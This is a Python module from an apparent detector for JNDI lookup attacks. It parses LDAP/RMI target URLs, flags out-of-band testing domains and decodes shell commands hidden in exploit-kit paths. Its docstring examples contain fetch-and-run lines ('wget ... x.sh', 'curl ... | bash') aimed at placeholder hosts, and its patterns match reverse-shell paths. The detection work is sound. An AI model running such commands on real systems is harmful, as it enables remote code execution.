"""Indicators in an evaluated lookup target: URL parts, OOB services, commands."""

from __future__ import annotations

import ipaddress
import re
from dataclasses import dataclass
from functools import lru_cache
from importlib import resources

from detectors.decoding import b64decode_loose

#: Schemes a JNDI InitialContext resolves remotely in a stock JDK, plus the ones
#: attack kits name; anything else is tagged ``uncommon-scheme``.
COMMON_SCHEMES = frozenset({"ldap", "ldaps", "rmi", "dns"})

_PORT = re.compile(r"[0-9]{1,5}")
_DOTTED_QUAD = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}")
_SYMBOLIC = re.compile(r"([^$]*)(\$\{[^}]*\}|$)")
_COMMAND_B64 = re.compile(r"/Command/Base64/([A-Za-z0-9+/=_%-]+)", re.IGNORECASE)
_COMMAND_PLAIN = re.compile(r"/Basic/Command/(?!Base64/)([^/?#]+)", re.IGNORECASE)
_REVERSE_SHELL = re.compile(r"/ReverseShell/([^/]+)/([0-9]{1,5})", re.IGNORECASE)
_URL_IN_TEXT = re.compile(r"\b(?:https?|ftp)://[^\s'\"|;&<>()`]+", re.IGNORECASE)
_IPV4_IN_TEXT = re.compile(r"(?<![0-9.])(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?![0-9.])")
_HOST_PORT_IN_TEXT = re.compile(
    r"(?<![\w.-])((?:[0-9]{1,3}\.){3}[0-9]{1,3}|[a-z0-9-]+(?:\.[a-z0-9-]+)+):([0-9]{1,5})\b",
    re.IGNORECASE,
)


@dataclass(frozen=True, slots=True)
class Target:
    """A lookup target split into parts.

    Args:
        scheme: lower-case scheme, ``""`` when the name has none.
        host: host, IPv6 without brackets; for ``a#b`` authorities the part after
            ``#`` (the name that is really resolved).
        port: port when given and numeric.
        path: everything after the authority (or after ``scheme:`` when there is none).
        fragment_host: the part before ``#`` in a ``host#name`` authority.

    Example:
        >>> split_target("ldap://127.0.0.1#example.com:1389/a").fragment_host
        '127.0.0.1'
    """

    scheme: str
    host: str
    port: int | None
    path: str
    fragment_host: str | None = None


def jndi_scheme(name: str) -> str | None:
    """The URL scheme JNDI's InitialContext would dispatch ``name`` on, else None.

    Mirrors ``javax.naming.InitialContext.getURLScheme``: a colon not preceded by
    a slash. Names without one are local (``java:comp/env/`` is prepended).

    Example:
        >>> jndi_scheme("ldap://example.com/a"), jndi_scheme("a/b:c")
        ('ldap', None)
    """
    colon = name.find(":")
    slash = name.find("/")
    if colon > 0 and (slash == -1 or colon < slash):
        return name[:colon]

    return None


def split_target(url: str) -> Target:
    """Split ``scheme://host:port/path`` the way an LDAP/RMI URL reads.

    Example:
        >>> target = split_target("ldap://[2001:db8::7]:1389/a")
        >>> target.scheme, target.host, target.port, target.path
        ('ldap', '2001:db8::7', 1389, '/a')
    """
    scheme, sep, rest = url.partition(":")
    if not sep:
        return Target("", "", None, url)
    scheme = scheme.lower()
    if not rest.startswith("//"):
        return Target(scheme, "", None, rest)
    rest = rest[2:]
    cut = len(rest)
    for stop in "/?":
        index = rest.find(stop)
        if 0 <= index < cut:
            cut = index
    authority, path = rest[:cut], rest[cut:]
    if "@" in authority:
        authority = authority.rsplit("@", 1)[1]
    host, port = _host_port(authority)
    fragment_host = None
    if "#" in host:
        # XXX(#3): Lookup has one host field, so a host#name authority reports
        # the name after '#' (what gets resolved); the allow-listed part before it
        # is only visible in the URL. A second field would change the API.
        fragment_host, _, host = host.partition("#")
    host = _lower_host(host)

    return Target(scheme, host, port, path, fragment_host)


def _lower_host(host: str) -> str:
    """Host names are case-insensitive; victim values (``${env:X}``) keep their case."""
    if "${" not in host:
        return host.lower()

    return _SYMBOLIC.sub(lambda m: m.group(1).lower() + m.group(2), host)


def _host_port(authority: str) -> tuple[str, int | None]:
    if authority.startswith("["):
        close = authority.find("]")
        if close > 0:
            host = authority[1:close]
            tail = authority[close + 1 :]
            if tail.startswith(":") and _PORT.fullmatch(tail[1:]):
                return host, int(tail[1:])
            return host, None
    head, sep, tail = authority.rpartition(":")
    if sep and _PORT.fullmatch(tail):
        if ":" in head and not _is_ipv6(head):
            return authority, None
        return head, int(tail)
    if authority.count(":") >= 2 and _is_ipv6(authority):
        return authority, None

    return authority, None


def _is_ipv6(text: str) -> bool:
    try:
        ipaddress.IPv6Address(text)
    except ValueError:
        return False

    return True


def host_kind(host: str) -> str | None:
    """``ipv4``, ``ipv6`` or None for a host name.

    Example:
        >>> host_kind("198.51.100.7"), host_kind("2001:db8::1"), host_kind("a.test")
        ('ipv4', 'ipv6', None)
    """
    if ":" not in host:
        if not _DOTTED_QUAD.fullmatch(host):
            return None
        return "ipv4" if all(int(part) <= 255 for part in host.split(".")) else None
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        return None

    return "ipv4" if address.version == 4 else "ipv6"


@lru_cache(maxsize=1)
def _oob_suffixes() -> dict[str, str]:
    text = (
        resources.files("detectors.data").joinpath("oob_domains.txt").read_text("utf-8")
    )
    suffixes: dict[str, str] = {}
    for raw in text.splitlines():
        line = raw.split("#", 1)[0].strip()
        if not line:
            continue
        domain, service = line.split()[:2]
        suffixes[domain.lower().strip(".")] = service

    return suffixes


def oob_service(host: str) -> str | None:
    """The out-of-band testing service a host belongs to (by domain suffix), else None.

    Example:
        >>> oob_service("c6u2x0e8abc.oast.fun")
        'interactsh'
    """
    labels = host.lower().rstrip(".").split(".")
    suffixes = _oob_suffixes()
    for i in range(len(labels) - 1):
        service = suffixes.get(".".join(labels[i:]))
        if service is not None:
            return service

    return None


def commands(path: str) -> tuple[str, ...]:
    """Shell commands encoded in exploit-kit paths (JNDIExploit and relatives).

    Example:
        >>> commands("/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi4xL3guc2g=")
        ('wget http://192.0.2.1/x.sh',)
    """
    lowered = path.lower()
    if "command/" not in lowered and "reverseshell/" not in lowered:
        return ()
    found: list[str] = []
    for match in _COMMAND_B64.finditer(path):
        token = match.group(1).replace("%3D", "=").replace("%3d", "=")
        decoded = b64decode_loose(token)
        if decoded is not None:
            found.append(decoded.decode("utf-8", "replace"))
    for match in _COMMAND_PLAIN.finditer(path):
        found.append(match.group(1))
    for match in _REVERSE_SHELL.finditer(path):
        found.append(f"reverse shell to {match.group(1)}:{match.group(2)}")

    return tuple(found)


def command_indicators(command: str) -> tuple[str, ...]:
    """URLs, ``host:port`` pairs and IPv4 addresses named inside a decoded command.

    Example:
        >>> command_indicators("(curl -s 192.0.2.9:5874/a||wget -q -O- http://example.com/x)|bash")
        ('http://example.com/x', '192.0.2.9:5874', '192.0.2.9')
    """
    found: list[str] = []
    for match in _URL_IN_TEXT.finditer(command):
        found.append(match.group(0))
    for match in _HOST_PORT_IN_TEXT.finditer(command):
        pair = f"{match.group(1)}:{match.group(2)}"
        if not any(pair in url for url in found):
            found.append(pair)
    for match in _IPV4_IN_TEXT.finditer(command):
        if match.group(0) not in found:
            found.append(match.group(0))

    return tuple(dict.fromkeys(found))
